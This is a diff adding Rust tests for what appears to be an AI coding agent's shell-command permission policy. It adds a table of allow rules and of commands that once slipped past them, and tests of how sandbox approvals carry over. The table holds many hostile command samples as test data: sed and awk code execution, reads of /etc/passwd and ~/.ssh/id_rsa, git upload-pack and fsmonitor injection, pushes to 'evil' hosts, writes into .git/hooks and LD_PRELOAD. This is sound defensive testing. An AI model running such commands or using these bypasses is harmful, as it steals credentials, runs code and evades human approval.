@@ -251,6 +251,327 @@ fn a_rule_covers_no_option_that_runs_something_else() {
     );
 }
 
+/// Rules, with what they cover and with what slipped through them once.
+static SLIPS: &[(&str, &[&str], &[&str])] = &[
+    (
+        "sed",
+        &[
+            "sed -n 1,5p x",
+            "sed 's/a/b/g' x y",
+            "sed -n -e '/a/p' -e 1d x",
+            "sed -E 's|a|b|' x",
+        ],
+        &[
+            "sed -n '1e id' x",
+            "sed 'w y' x",
+            "sed 's/a/id/e' x",
+            "sed 's/a/b/w y' x",
+            "sed 'r /etc/passwd' x",
+            "sed -f y x",
+            "sed -i s/a/b/ x",
+            "sed -ni p x",
+            "sed --in-place p x",
+            "sed -n p -e '1e id' x",
+            "sed --expr='1e id' x",
+            "sed --expression='1e id' x",
+            "sed -ne '1e id' x",
+            "sed -s '1e id' x",
+            "sed p /etc/passwd",
+        ],
+    ),
+    (
+        "sed -n",
+        &["sed -n 3p x"],
+        &["sed -n '3w y' x", "sed -n p -i x"],
+    ),
+    (
+        "awk",
+        &["awk '{print $1}' x", "awk -F: '$1 == 2' x"],
+        &[
+            "awk '{print > \"y\"}' x",
+            "awk '{system($0)}' x",
+            "awk '{\"id\" | getline; print}' x",
+            "awk 'BEGIN{ARGV[1]=a}' x",
+            "awk -f y x",
+            "awk --file=y x",
+            "awk -é '{print}' x",
+            "awk -F : '{print | \"sh\"}' x",
+            "awk '{print}' /etc/passwd",
+        ],
+    ),
+    (
+        "git clone",
+        &["git clone https://x/y"],
+        &[
+            "git clone -u ./x https://x/y",
+            "git clone -u./x https://x/y",
+            "git clone -qu./x https://x/y",
+            "git clone --upload-pack=./x https://x/y",
+            "git clone -c core.fsmonitor=./x https://x/y",
+            "git clone ext::./x",
+            "git clone x ../y",
+            "git clone --template=t x",
+        ],
+    ),
+    (
+        "git diff",
+        &["git diff HEAD -- src", "git diff --stat"],
+        &[
+            "git diff /etc/passwd /etc/group",
+            "git diff ../other x",
+            "git diff --no-index x y",
+            "git diff --no-ind x y",
+            "git diff --output=x",
+            "git diff --output x",
+            "git diff --ext-diff",
+            "git diff --textconv",
+            "git diff -O/etc/passwd",
+        ],
+    ),
+    (
+        "git",
+        &["git status", "git log -3", "git ls-tree HEAD"],
+        &[
+            "git config core.fsmonitor ./x",
+            "git config user.name x",
+            "git credential fill",
+            "git maintenance start",
+            "git daemon",
+            "git difftool",
+            "git submodule foreach ls",
+            "git hook run pre-commit",
+            "git --exec-path=.",
+            "git init x",
+        ],
+    ),
+    (
+        "git config",
+        &[
+            "git config user.name",
+            "git config --get core.editor",
+            "git config --list",
+        ],
+        &[
+            "git config core.fsmonitor ./x",
+            "git config --global core.pager ./x",
+            "git config --add alias.x y",
+            "git config --get x --file y",
+            "git config --edit",
+            "git config set a b",
+        ],
+    ),
+    (
+        "git push",
+        &[
+            "git push",
+            "git push origin main",
+            "git push -u origin main",
+            "git push origin a:b",
+        ],
+        &[
+            "git push https://evil/x main",
+            "git push git@evil:x main",
+            "git push evil:x main",
+            "git push -u evil:x main",
+            "git push --repo=evil:x",
+            "git push --receive-pack=./x origin",
+            "git push ../x main",
+        ],
+    ),
+    (
+        "git merge",
+        &["git merge x"],
+        &["git merge -s evil x", "git merge --strategy=evil x"],
+    ),
+    (
+        "printf",
+        &["printf x"],
+        &["printf -v PATH x", "printf -vPATH x", "printf -v 'a[0]' x"],
+    ),
+    ("test", &["test -f x"], &["test -v 'a[$(id)]'"]),
+    ("export", &[], &["export PATH=bin", "export A"]),
+    ("read", &[], &["read PATH"]),
+    ("set", &[], &["set -a"]),
+    ("hash", &[], &["hash -p ./x ls"]),
+    ("command", &[], &["command printf -v PATH x", "command ls"]),
+    ("cd", &["cd sub"], &["cd /etc", "cd ../.."]),
+    (
+        "cat",
+        &[
+            "cat x",
+            "cat ./a/../b",
+            "cat /home/me/work/x",
+            "cat /tmp/x",
+            "cat .git/config",
+        ],
+        &[
+            "cat /home/me/.ssh/id_rsa",
+            "cat ../other/.env",
+            "cat a/../../b",
+            "cat x /etc/passwd",
+            "cat .agent/sessions/x.json",
+        ],
+    ),
+    (
+        "cp",
+        &["cp a b"],
+        &[
+            "cp a ../b",
+            "cp --target-directory=/home/me a",
+            "cp -t/home/me a",
+            "cp a .git/hooks/pre-commit",
+            "cp a .GIT/config",
+            "cp a .github/workflows/x.yml",
+            "cp a .vscode/tasks.json",
+        ],
+    ),
+    (
+        "dd",
+        &["dd if=a of=b"],
+        &["dd if=a of=/home/me/b", "dd if=/etc/passwd of=b"],
+    ),
+    (
+        "make",
+        &["make all"],
+        &["make -C /home/me/other", "make -C../other", "make -f../x"],
+    ),
+    (
+        "cargo test",
+        &["cargo test"],
+        &["cargo test --manifest-path /home/me/o/Cargo.toml"],
+    ),
+    (
+        "tar",
+        &["tar tf x", "tar -tf x"],
+        &[
+            "tar xPf x",
+            "tar -xPf x",
+            "tar xIf ./y x",
+            "tar tf evil:x",
+            "tar -xf x -C /home/me",
+        ],
+    ),
+    (
+        "curl",
+        &["curl https://x/y"],
+        &[
+            "curl -o x https://x",
+            "curl file:///etc/passwd",
+            "curl -K x",
+        ],
+    ),
+    ("tree", &["tree src"], &["tree -R -L 1", "tree -o x"]),
+    ("file", &["file x"], &["file -C -m x"]),
+    (
+        "go env",
+        &["go env GOPATH"],
+        &["go env -w GOFLAGS=-toolexec=./x"],
+    ),
+    (
+        "env",
+        &["env"],
+        &["env ls", "env -S 'touch x'", "env A=1 ls"],
+    ),
+    ("timeout", &[], &["timeout 9 ls"]),
+    ("xargs", &[], &["xargs rm"]),
+    (
+        "xargs rg",
+        &[],
+        &["echo --pre=./x | xargs rg foo", "xargs rg foo"],
+    ),
+    (
+        "= nice xargs cat",
+        &[],
+        &["echo /etc/passwd | nice xargs cat"],
+    ),
+];
+
+#[test]
+fn a_rule_covers_nothing_that_writes_runs_or_leads_elsewhere() {
+    for (rule, covered, beyond) in SLIPS {
+        let mut policy = allowing(&[rule]);
+        policy.grants = vec![Grant::GitWrite];
+        cases(&policy, Decision::Allow, covered);
+        cases(&policy, Decision::Ask, beyond);
+        // A rule that names it exactly covers it, unless it changes the shell.
+        for script in beyond.iter().filter(|script| script.starts_with("cat ../")) {
+            case(&allowing(&[script]), script, Decision::Allow);
+        }
+    }
+}
+
+#[test]
+fn without_a_sandbox_always_is_not_for_what_runs_the_project() {
+    let project = [
+        "make all",
+        "npm test",
+        "npm run lint",
+        "cargo test",
+        "python3 check.py",
+        "python -m pytest",
+        "pytest -q",
+        "./check.sh",
+        "sh check.sh",
+        "npx jest",
+        "uv run pytest",
+        "go test",
+        "cmake --build x",
+        "strange thing",
+        "git commit -m x",
+        "awk -f x y",
+        "find . -name x -exec ./x ';'",
+        "timeout 9 make",
+        "env LD_PRELOAD=./x ls",
+        "command ls",
+    ];
+    let harmless = [
+        "ls",
+        "cat x",
+        "git status",
+        "git diff HEAD",
+        "rg foo",
+        "sed -n 1p x",
+        "timeout 9 ls",
+    ];
+    let mut policy = Policy {
+        confinement: Confinement::SwitchedOff,
+        ..policy()
+    };
+    for script in project {
+        assert!(policy.propose(script).is_empty(), "{script}");
+    }
+    for script in harmless {
+        assert!(!policy.propose(script).is_empty(), "{script}");
+    }
+    // What was answered while a sandbox held does not count without one.
+    let sandboxed = Policy {
+        approval: Approval::Edits,
+        confinement: Confinement::Sandboxed,
+        ..policy.clone()
+    };
+    for script in project.iter().chain(&harmless) {
+        let mut sandboxed = sandboxed.clone();
+        sandboxed.grants = vec![Grant::GitWrite];
+        policy.grants = vec![Grant::GitWrite];
+        let always = sandboxed.propose(script);
+        assert!(!always.is_empty(), "{script}");
+        sandboxed.person.always.clone_from(&always);
+        case(&sandboxed, script, Decision::Allow);
+        policy.person.always.clone_from(&always);
+        let expected = if harmless.contains(script) {
+            Decision::Allow
+        } else {
+            Decision::Ask
+        };
+        case(&policy, script, expected);
+        // What the person wrote into the settings is their word.
+        policy.person.always.clear();
+        policy.person.allow = always;
+        case(&policy, script, Decision::Allow);
+        policy.person.allow.clear();
+    }
+}
+
 #[test]
 fn an_exact_rule_is_exact() {
     let policy = allowing(&["= find . -name x", "= sed -n 1p x", "= git -C sub status"]);
